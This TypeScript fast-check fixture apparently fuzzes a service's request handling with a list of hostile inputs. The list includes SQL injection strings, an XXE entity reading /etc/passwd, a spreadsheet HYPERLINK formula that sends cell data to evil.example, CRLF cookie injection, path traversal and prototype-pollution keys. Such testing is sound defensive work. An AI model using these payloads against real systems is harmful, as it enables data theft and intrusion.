/** Values that have broken other people's programs, and ways of spoiling a request with them. */
import fc from 'fast-check'

/** Backslashes of escapes are written as numbers so that no tool tidies them away. */
const code = (...numbers: number[]): string => String.fromCharCode(...numbers)

export const hostileTexts: readonly string[] = [
  '',
  ' ',
  "' or '1'='1",
  "'; drop table case_file; --",
  `") union select token_hash::text from session --`,
  "%' and pg_sleep(9) is null --",
  '\\',
  '%',
  '_',
  '$1',
  '${7*7}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+1',
  '-1',
  '@SUM(1)',
  `x${code(13, 10)}Set-Cookie: clew-session=planted`,
  code(13),
  code(10),
  code(9),
  code(0),
  `a${code(0)}b`,
  code(0xd800),
  code(0xdc00),
  `a${code(0xdfff)}`,
  code(0x202e) + 'gpj.exe',
  code(0x2066) + 'x',
  code(0xfeff) + 'x',
  code(0x200b),
  code(0xfffe),
  code(0x1b) + '[2J',
  code(0x7f),
  'a' + code(0x301).repeat(3000),
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '..\\..\\x',
  '/etc/passwd',
  'file:///etc/passwd',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-0',
  '1e999',
  '0000-01-01',
  '0001-01-01',
  '2026-02-30',
  '9999-12-31',
  '2026-13-01',
  '-0001-01-01',
  '2026-05-05T25:61:61Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '0193E2D0-0000-7000-8000-000000000001',
  'a'.repeat(5000),
  '('.repeat(2000),
  ','.repeat(2000),
  'a,'.repeat(900) + 'a',
  '9'.repeat(400),
  'ﷺ'.repeat(300),
  '𝔘'.repeat(300),
  'ß'.repeat(200),
  'İ'.repeat(200),
  '&'.repeat(300),
  '!:*|'.repeat(100),
  "a' & b:* | !c",
  '[[V1.name]]',
  '- - - -',
]

export const hostileNumbers: readonly number[] = [
  -1,
  0,
  1,
  1.5,
  2 ** 31 - 1,
  2 ** 31,
  2 ** 53 - 1,
  2 ** 53,
  1e308,
  -(2 ** 63),
]

const odd: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [[]],
  { __proto__: null },
  [null],
  { constructor: { prototype: 1 } },
]

export const hostile: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.constantFrom(...hostileNumbers),
  fc.constantFrom(...odd),
  fc.string({ unit: 'binary', maxLength: 20 }),
)

type Place = readonly (string | number)[]

function placesIn(value: unknown, at: Place = []): Place[] {
  if (typeof value !== 'object' || value === null) return [at]
  const below = Object.entries(value).flatMap(([key, each]) =>
    placesIn(each, [...at, Array.isArray(value) ? Number(key) : key]),
  )
  return at.length === 0 ? below : [at, ...below]
}

/** The value with one place of it changed, gone, or with something beside it that nobody asked for. */
export function spoilt(value: unknown): fc.Arbitrary<unknown> {
  const places = placesIn(value).filter(({ length }) => length > 0)
  if (places.length === 0) return hostile
  return fc
    .tuple(fc.constantFrom(...places), fc.constantFrom('change', 'change', 'change', 'drop', 'add'), hostile)
    .map(([place, how, bad]) => changed(value, place, how, bad))
}

function changed(value: unknown, [key, ...rest]: Place, how: string, bad: unknown): unknown {
  if (key === undefined || typeof value !== 'object' || value === null) return bad
  const own: Record<string | number, unknown> = Array.isArray(value) ? ([...value] as never) : { ...value }
  if (rest.length > 0) own[key] = changed(own[key], rest, how, bad)
  else if (how === 'drop') delete own[key]
  else if (how === 'add') own[typeof bad === 'string' ? bad : 'more'] = bad
  else own[key] = bad
  return own
}
